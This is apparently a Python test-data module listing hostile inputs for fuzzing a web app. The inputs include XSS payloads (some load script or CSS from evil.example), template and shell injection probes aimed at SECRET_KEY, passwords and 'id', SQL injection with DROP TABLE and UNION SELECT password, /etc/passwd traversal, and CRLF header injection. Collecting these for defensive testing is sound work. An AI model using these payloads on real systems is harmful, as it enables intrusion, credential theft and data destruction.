"""Texts that have broken other systems, by what they try."""

_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/xss>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "＜script＞alert(1)＜/script＞",
]
_TARGETS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "details open")
_HANDLERS = ("onerror", "onload", "onfocus", "onpageshow", "ontoggle", "onmouseover", "oNcLiCk")
_HANDLED = [f"<{tag} {handler}=alert(1)>" for tag in _TARGETS for handler in _HANDLERS]
_ATTRIBUTES = [
    f"{quote}{end}{handler}=alert(1) x={quote}"
    for quote in ('"', "'")
    for end in (" ", "/", "\t")
    for handler in ("onfocus", "onmouseover", "autofocus onfocus", "style=x onload")
]
SCRIPTS = [*_TAGS, *_HANDLED, *_ATTRIBUTES]

# What a template, a shell or an evaluator would turn into 62710561 or a listing.
TEMPLATES = [
    "{{7919*7919}}",
    "{{ 7919|add:7919 }}",
    "{% load static %}{% debug %}",
    "{% include '/etc/passwd' %}",
    "${7919*7919}",
    "#{7919*7919}",
    "<%= 7919*7919 %>",
    "{{request.user.password}}",
    "{{settings.SECRET_KEY}}",
    "{{''.__class__.__mro__}}",
    "%(password)s %s %n",
    "{0.__class__}",
    "$(id)",
    "`id`",
    "__import__('os').system('id')",
]

SEARCHES = [
    "'",
    '"',
    "''",
    "' OR 1=1 --",
    "'; DROP TABLE appeals_appeal; --",
    "1' UNION SELECT password FROM organisation_user --",
    "%",
    "_",
    "\\",
    "%%%%%%%%",
    "(((((",
    "[a-z",
    "*?+{}|^$",
    "AND OR NOT NEAR",
    '"unclosed',
    "a:b",
    "-x",
    "*",
    "​",
    "‮法院‬",
    "👨‍👩‍👧‍👦🏭",
    "𠮷野家",
    "\u0301" * 200,
    "ﷺ" * 50,
    "x" * 10_000,
    "诉" * 3_000,
    "\x01\x02\x7f",
    "\r\nSet-Cookie: a=b",
    "\ufeff",
    "\uffff",
    "null",
    "NaN",
    "-0",
    "1e999",
    "true",
    *TEMPLATES,
    *SCRIPTS[:10],
]

# As they stand in an address: NUL, half characters, bytes that are no UTF-8.
RAW_QUERIES = ["%00", "a%00b", "%ED%A0%80", "%ff%fe", "%C0%AF", "%u0000", "%", "%zz", "&&&=", "=", "[]=1"]

NUMBERS = [
    "0",
    "-1",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999999999",
    "1.5",
    "1e3",
    "0x1",
    "٣",
    "１",
    "²",
    "+1",
    " 1",
    "1;2",
    "1'",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e",
    "%00",
    "%ff",
    "%ED%A0%80",
    "a" * 3_000,
]
